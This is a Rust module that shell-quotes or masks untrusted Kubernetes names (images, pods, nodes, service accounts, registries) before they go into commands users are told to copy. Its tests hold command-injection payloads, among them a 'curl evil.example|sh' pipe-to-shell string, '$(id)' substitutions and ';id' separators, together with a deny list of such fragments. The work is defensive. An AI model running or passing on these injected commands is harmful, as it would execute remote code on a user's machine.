//! Words from outside in the commands that people copy. An image is free text to the API server: `a:1;curl x|sh` in a pod
//! must not run on the machine of whoever asks why it fails.

use crate::pull::Pull;
use crate::subject::Subject;
use std::borrow::Cow;

/// Stands in a command for an image that is no plain word.
pub const IMAGE: &str = "IMAGE";
const NAME: &str = "NAME";

/// Whether a word means itself to every shell, and is no flag.
pub fn is_plain(word: &str) -> bool {
    !word.starts_with('-') && word.bytes().all(|b| b.is_ascii_alphanumeric() || b"._-/:@%+=,[]".contains(&b))
}

/// The word in single quotes, where it is not plain.
pub fn word(word: &str) -> Cow<'_, str> {
    if is_plain(word) {
        Cow::Borrowed(word)
    } else {
        Cow::Owned(format!("'{}'", word.replace('\'', r"'\''")))
    }
}

fn plain<'w>(word: &'w str, otherwise: &'w str) -> &'w str {
    if is_plain(word) { word } else { otherwise }
}

/// The pull as commands may name it. A name that is no plain word could not be pulled or made anyway: the reader puts it in.
pub fn pull<'p, 'a>(pull: &'p Pull<'a>) -> Cow<'p, Pull<'a>> {
    let account = pull.pod.map_or("", |p| p.service_account.as_str());
    let names = [pull.namespace, pull.pod_name, pull.container_name, pull.node, account];
    let hosts = [pull.registry.as_str(), pull.asked_host()];
    if names.into_iter().chain(hosts).chain([pull.image.as_str()]).all(is_plain) {
        return Cow::Borrowed(pull);
    }
    let mut spoken = pull.clone();
    spoken.namespace = plain(pull.namespace, NAME);
    spoken.pod_name = plain(pull.pod_name, NAME);
    spoken.container_name = plain(pull.container_name, NAME);
    spoken.node = plain(pull.node, NAME);
    spoken.image = plain(&pull.image, IMAGE).to_owned();
    spoken.registry = plain(&pull.registry, "REGISTRY").to_owned();
    spoken.pod = pull.pod.filter(|_| is_plain(account));
    if !is_plain(pull.asked_host()) {
        spoken.observations.clear();
    }
    Cow::Owned(spoken)
}

/// The subject as commands may name it.
pub fn subject(subject: &Subject) -> Subject {
    let of = |name: &str| plain(name, NAME).to_owned();
    match subject {
        Subject::Registry(name) => Subject::Registry(of(name)),
        Subject::Repository(name) => Subject::Repository(of(name)),
        Subject::Image(name) => Subject::Image(plain(name, IMAGE).to_owned()),
        Subject::Node(name) => Subject::Node(of(name)),
        Subject::Host(name) => Subject::Host(of(name)),
        Subject::File { node, path } => Subject::File { node: of(node), path: of(path) },
        Subject::Secret { namespace, name } => Subject::Secret { namespace: of(namespace), name: of(name) },
        Subject::ServiceAccount { namespace, name } => {
            Subject::ServiceAccount { namespace: of(namespace), name: of(name) }
        }
        Subject::Pod { namespace, name } => Subject::Pod { namespace: of(namespace), name: of(name) },
        Subject::Cluster => Subject::Cluster,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::{Scene, secret};
    use report::Step;
    use vocabulary::Cause;

    #[test]
    fn words_are_quoted_where_a_shell_would_read_more() {
        assert_eq!(word("r.example.com:5000/a@sha256:0"), "r.example.com:5000/a@sha256:0");
        assert_eq!(word("a b"), "'a b'");
        assert_eq!(word("it's"), r"'it'\''s'");
        assert_eq!(word("-f"), "'-f'");
    }

    #[test]
    fn what_a_pod_says_never_runs_in_a_command_to_copy() {
        let image = "r.example.com/a:1;curl evil.example|sh $(id) `id`";
        for cause in Cause::ALL {
            let scene = Scene::pod(image, &["reg;cred$(id)"])
                .secret(secret("shop", "reg;cred$(id)", "other.example.com"))
                .symptom(*cause)
                .change(|s| {
                    s.pods[0].service_account = "a'; id; '".into();
                    s.pods[0].node = "w1;id".into();
                });
            let report = crate::diagnose(&scene.snapshot);
            for incident in &report.incidents {
                let steps = incident.remedies.iter().flat_map(|r| r.steps.iter().chain(&r.undo));
                let run = steps.filter_map(|s| if let Step::Run(c) = s { Some(c.as_str()) } else { None });
                let tests = incident.next_test.iter().map(|t| t.command.as_str());
                for command in run.chain(tests).chain(incident.verify.iter().map(|v| v.command.as_str())) {
                    for bad in [";curl", "$(id)", "`id`", "'; id", ";id", "|sh", ";cred"] {
                        assert!(!command.contains(bad), "{}: {command}", cause.id());
                    }
                }
            }
        }
    }
}
